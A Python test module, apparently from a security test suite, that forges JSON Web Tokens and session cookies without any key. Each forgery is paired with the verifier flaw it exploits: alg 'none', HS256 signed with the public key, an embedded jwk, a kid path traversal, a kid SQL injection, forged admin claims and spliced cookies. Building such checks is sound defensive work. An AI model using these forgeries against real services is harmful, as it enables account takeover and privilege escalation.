"""Tokens and cookies that an attacker makes without any key. Each says which flaw lets it in.

The attacker has a login of their own, the public keys that everybody can fetch, and a key pair of their own.
"""

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache, cached_property, partial
from typing import Any, NamedTuple

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from loadtest.attacks.weak_sessions import SessionFlaw
from loadtest.attacks.weak_verifier import Flaw

SPKI = PublicFormat.SubjectPublicKeyInfo
VICTIM = "id-of-the-victim"


class NotPossible(Exception):  # noqa: N818 - the name is what happened
    """This attacker lacks what the forgery is made of, such as a public key where there is none."""


def b64(data: bytes) -> str:
    """Return base64url without padding (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64(text: str) -> bytes:
    """Return what `b64` made *text* of. Raises `ValueError`."""
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@dataclass(frozen=True)
class Known:
    """What an attacker has: an access token and a refresh token of their own login, and the public keys."""

    token: str
    refresh_token: str
    jwks: tuple[Mapping[str, Any], ...]

    @cached_property
    def header(self) -> dict[str, Any]:
        """The header of the access token."""
        return self._part(0)

    @cached_property
    def claims(self) -> dict[str, Any]:
        """What the access token says."""
        return self._part(1)

    def _part(self, number: int) -> dict[str, Any]:
        try:
            found: dict[str, Any] = json.loads(unb64(self.token.split(".")[number]))
        except (ValueError, IndexError):
            raise NotPossible("the token is no JWT") from None
        return found

    @cached_property
    def own_key(self) -> ed25519.Ed25519PrivateKey:
        """The attacker's own key."""
        return ed25519.Ed25519PrivateKey.generate()

    @property
    def own_jwk(self) -> dict[str, Any]:
        """Its public half."""
        found: dict[str, Any] = jwt.algorithms.OKPAlgorithm.to_jwk(self.own_key.public_key(), as_dict=True)
        return found

    def public_jwk(self) -> Mapping[str, Any]:
        """Return the key that the token was signed with. Raises `NotPossible` where it is secret."""
        for jwk in self.jwks:
            if jwk.get("kid") == self.header.get("kid"):
                return jwk
        raise NotPossible("there is no public key")

    def public_bytes(self, encoding: Encoding, form: PublicFormat = SPKI) -> bytes:
        """Return that key in another form."""
        key = jwt.PyJWK(dict(self.public_jwk())).key
        if form is PublicFormat.Raw and not isinstance(key, ed25519.Ed25519PublicKey):
            raise NotPossible("this kind of key has no raw form")
        found: bytes = key.public_bytes(encoding, form)
        return found


def text(known: Known, header: Mapping[str, Any], **claims: Any) -> str:
    """Return what is signed: the token's header and claims with these changes; a header of None is left out."""
    changed = {name: value for name, value in {**known.header, **header}.items() if value is not None}
    return f"{b64(json.dumps(changed).encode())}.{b64(json.dumps({**known.claims, **claims}).encode())}"


def unsigned(known: Known, alg: Any) -> str:
    """Return the victim's token without a signature."""
    return text(known, {"alg": alg}, sub=VICTIM) + "."


def with_hmac(signed: str, secret: bytes) -> str:
    """Return header and claims (*signed*) with a signature of HS256 (RFC 7518 §3.2)."""
    return f"{signed}.{b64(hmac.digest(secret, signed.encode(), hashlib.sha256))}"


def hmac_signed(known: Known, secret: Callable[[Known], bytes], **header: Any) -> str:
    """Return the victim's token, signed with HS256 and a *secret* that is public."""
    return with_hmac(text(known, {"alg": "HS256", **header}, sub=VICTIM), secret(known))


def own_signed(known: Known, header: Callable[[Known], Mapping[str, Any]]) -> str:
    """Return the victim's token, signed with the attacker's key."""
    signed = text(known, {"alg": "EdDSA", **header(known)}, sub=VICTIM)
    return f"{signed}.{b64(known.own_key.sign(signed.encode()))}"


def library_signed(known: Known, key: Callable[[], Any], alg: str) -> str:
    """Return the victim's token, signed with a key of another kind."""
    headers = {"typ": known.header.get("typ"), "kid": known.header.get("kid")}
    return jwt.encode({**known.claims, "sub": VICTIM}, key(), alg, headers)


@cache
def rsa_key() -> rsa.RSAPrivateKey:
    """Return an RSA key of the attacker. Making one takes a while."""
    return rsa.generate_private_key(65537, 2048)


def tampered(known: Known, **claims: Any) -> str:
    """Return the token with other claims and its old signature."""
    return f"{text(known, {}, **claims)}.{known.token.rpartition('.')[2]}"


def another_last_letter(token: str) -> str:
    """Return *token* with another last letter, whose last bits mean nothing unless the bytes fill all letters."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return token[:-1] + alphabet[alphabet.index(token[-1]) ^ 1]


def respelled(known: Known) -> str:
    """Return the token in another spelling."""
    if len(unb64(known.token.rpartition(".")[2])) % 3 == 0:
        raise NotPossible("every bit of the last letter means something")
    return another_last_letter(known.token)


class TokenForgery(NamedTuple):
    """How the token is made, and the flaw that lets it in."""

    flaw: Flaw
    forge: Callable[[Known], str]


PEM, DER = (partial(Known.public_bytes, encoding=encoding) for encoding in (Encoding.PEM, Encoding.DER))
RAW = partial(Known.public_bytes, encoding=Encoding.Raw, form=PublicFormat.Raw)
TOKENS: dict[str, TokenForgery] = {
    "alg none": TokenForgery(Flaw.NONE, partial(unsigned, alg="none")),
    "alg nOnE": TokenForgery(Flaw.NONE, partial(unsigned, alg="nOnE")),
    "alg empty": TokenForgery(Flaw.NONE, partial(unsigned, alg="")),
    "signature left out": TokenForgery(Flaw.NO_SIGNATURE, lambda known: text(known, {}, sub=VICTIM) + "."),
    "only two parts": TokenForgery(Flaw.NO_SIGNATURE, lambda known: text(known, {}, sub=VICTIM)),
    "HS256 with the public key (PEM)": TokenForgery(Flaw.HMAC, partial(hmac_signed, secret=PEM)),
    "HS256 with the public key (DER)": TokenForgery(Flaw.HMAC, partial(hmac_signed, secret=DER)),
    "HS256 with the public key (raw)": TokenForgery(Flaw.HMAC, partial(hmac_signed, secret=RAW)),
    "HS256 with an empty secret": TokenForgery(Flaw.HMAC, partial(hmac_signed, secret=lambda _: b"")),
    "signed with another key": TokenForgery(Flaw.SIGNATURE, partial(own_signed, header=lambda _: {})),
    "brings its own key (jwk)": TokenForgery(
        Flaw.KEY_IN_HEADER, partial(own_signed, header=lambda known: {"jwk": known.own_jwk})
    ),
    "RS256 with another key": TokenForgery(Flaw.SIGNATURE, partial(library_signed, key=rsa_key, alg="RS256")),
    "ES256 with another key": TokenForgery(
        Flaw.SIGNATURE, partial(library_signed, key=lambda: ec.generate_private_key(ec.SECP256R1()), alg="ES256")
    ),
    "kid is an empty file": TokenForgery(
        Flaw.KID_IS_PATH, partial(hmac_signed, secret=lambda _: b"", kid="../../../../../dev/null")
    ),
    "kid is SQL": TokenForgery(
        Flaw.KID_IN_SQL, partial(hmac_signed, secret=lambda _: b"mine", kid="' UNION SELECT 'mine")
    ),
    "another user in the claims": TokenForgery(Flaw.SIGNATURE, partial(tampered, sub=VICTIM)),
    "administrator in the claims": TokenForgery(Flaw.SIGNATURE, partial(tampered, roles=["admin"])),
    "later expiry in the claims": TokenForgery(Flaw.SIGNATURE, partial(tampered, exp=9_999_999_999)),
    "signature in another spelling": TokenForgery(Flaw.MALLEABLE, respelled),
    "a refresh token as an access token": TokenForgery(Flaw.TYPE, lambda known: known.refresh_token),
}


def another_letter(value: str, place: int) -> str:
    """Return *value* with another letter at *place*."""
    return value[:place] + ("A" if value[place] != "A" else "B") + value[place + 1 :]


class CookieForgery(NamedTuple):
    """How the cookie is made of the attacker's own one and another's, and the flaw that lets it in.

    The other's cookie is that of a second login; only its first half is used, as far as a victim's name would tell it.
    """

    flaw: SessionFlaw
    forge: Callable[[str, str], str]


COOKIES: dict[str, CookieForgery] = {
    "first letter changed": CookieForgery(SessionFlaw.SUFFIX, lambda own, _: another_letter(own, 0)),
    "middle letter changed": CookieForgery(SessionFlaw.SUFFIX, lambda own, _: another_letter(own, len(own) // 2)),
    "last letter changed": CookieForgery(SessionFlaw.PREFIX, lambda own, _: another_letter(own, len(own) - 1)),
    "last letter cut off": CookieForgery(SessionFlaw.PREFIX, lambda own, _: own[:-1]),
    "one letter more": CookieForgery(SessionFlaw.PREFIX, lambda own, _: own + "A"),
    "padded": CookieForgery(SessionFlaw.PREFIX, lambda own, _: own + "="),
    "own half, the victim's half": CookieForgery(
        SessionFlaw.UNBOUND, lambda own, other: own[: len(own) // 2] + other[len(own) // 2 :]
    ),
    "the victim's half, own half": CookieForgery(
        SessionFlaw.UNBOUND, lambda own, other: other[: len(own) // 2] + own[len(own) // 2 :]
    ),
    "random, of the same length": CookieForgery(
        SessionFlaw.WELL_FORMED, lambda own, _: secrets.token_urlsafe(len(own))[: len(own)]
    ),
    "all letters A": CookieForgery(SessionFlaw.WELL_FORMED, lambda own, _: "A" * len(own)),
    "the victim's id in clear": CookieForgery(
        SessionFlaw.CLEAR, lambda *_: b64(json.dumps({"user": {"id": VICTIM, "roles": ["admin"]}}).encode())
    ),
}
